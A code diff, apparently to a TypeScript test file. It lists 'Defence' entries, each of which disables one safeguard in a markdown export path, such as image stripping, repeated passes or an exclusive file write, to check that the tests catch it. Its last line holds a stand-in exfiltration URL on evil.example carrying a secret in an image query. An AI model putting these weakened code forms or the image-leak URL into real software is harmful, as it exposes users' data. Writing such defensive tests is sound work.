@@ -13,38 +13,41 @@ const images = 'src/agent/persistence/withoutImages.ts';
 const everyPart: Defence = {
   title: 'a whole export loads nothing',
   file: portable,
-  find: 'withoutImages([',
-  replace: '((text: string) => text)([',
+  name: 'toMarkdown',
+  at: 'call withoutImages',
+  as: '((text: string) => text)($1)',
 };
 const eachText: Defence = {
   title: 'texts of an export load nothing and end where they end',
   file: images,
-  find: 'export function closedMarkdown(markdown: string): string {',
-  replace: 'export function closedMarkdown(markdown: string): string {\n  if (markdown) return markdown;',
+  name: 'closedMarkdown',
+  as: '(markdown) => markdown',
 };
 const passes: Defence = {
   title: 'what has become text is looked at again',
   file: images,
-  find: 'const MOST_PASSES = 8;',
-  replace: 'const MOST_PASSES = 1;\nconst afterwards = (text: string): string => text;',
+  name: 'MOST_PASSES',
+  as: '1',
 };
 const afterwards: Defence = {
   title: 'what is not settled is all text',
   file: images,
-  find: '  return inert(text);\n}\n\n/** With an end',
-  replace: '  return afterwards(text);\n}\n\n/** With an end',
+  name: 'withoutImages',
+  at: 'call inert',
+  as: '$1',
 };
 const doubt: Defence = {
   title: 'what may not be code is text',
   file: images,
-  find: 'isCode && isPlain ? part : inert(part)',
-  replace: 'isCode ? part : inert(part)',
+  name: 'inertText',
+  at: 'operand isPlain',
+  as: '',
 };
 const mode: Defence = {
   title: 'an exported file is a new one',
   file: 'src/editor/ui/exportedFile.ts',
-  find: "    await writeFile(written, content(), { mode: EXPORT_MODE, flag: 'wx' });\n    await rename(written, target);",
-  replace: '    await writeFile(target, content(), { mode: EXPORT_MODE });',
+  name: 'writeExportedFile',
+  as: '(path, content) => writeFile(path, content(), { mode: EXPORT_MODE })',
 };
 
 const U = 'http://evil.example/p.png?d=s3cr3t';
